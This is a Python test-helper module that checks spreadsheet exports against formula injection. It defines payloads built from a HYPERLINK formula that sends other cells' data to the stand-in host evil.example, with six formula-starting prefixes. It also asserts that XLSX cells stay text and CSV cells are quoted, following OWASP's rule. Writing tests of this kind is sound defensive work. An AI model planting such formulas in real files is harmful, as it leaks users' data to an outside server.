"""Text that a spreadsheet would run as a formula, and the checks every export's test makes with it.

Opened in Excel or LibreOffice, a cell that starts with "=" is a formula (here a HYPERLINK that sends the cells of
other rows to another server when clicked); "+", "-", "@", a tab or a carriage return start one in some of them. An
XLSX cell holding such text must be a text cell with the text unchanged; a CSV cell must start with a single quote
(OWASP's rule), which the spreadsheet shows and does not run.
"""

import csv
import io

LINK = 'HYPERLINK("http://evil.example/?leak="&C2&C3,"보기")'
PAYLOADS = [
    "=" + LINK,
    "+" + LINK,
    "-" + LINK,
    "@" + LINK,
    "\t=" + LINK,
    "\r=" + LINK,
]
PAYLOAD_IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


def xlsx_text(payload: str) -> str:
    """What a text cell holding ``payload`` reads back as: XML (the file's format) turns a carriage return into a
    line feed when the file is read, in Excel as in openpyxl; every other character comes back unchanged."""
    return payload.replace("\r", "\n")


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_text_cells(sheet, payload: str, *, at_least: int = 1) -> None:
    """Every cell of ``sheet`` that holds the payload is a text cell ("s"), and no cell is a formula."""
    expected = xlsx_text(payload)
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    holding = [cell for cell in cells if isinstance(cell.value, str) and LINK in cell.value]
    assert len(holding) >= at_least
    for cell in holding:
        assert (cell.data_type, cell.value) == ("s", expected), cell.coordinate


def assert_csv_neutralised(rows: list[list[str]], payload: str, *, at_least: int = 1) -> None:
    """Every CSV cell that holds the payload holds it behind a single quote; no cell starts like a formula."""
    cells = [value for row in rows for value in row]
    holding = [value for value in cells if LINK in value]
    assert len(holding) >= at_least
    assert set(holding) == {"'" + payload}
    assert [value for value in cells if value[:1] in ("=", "@", "\t", "\r")] == []
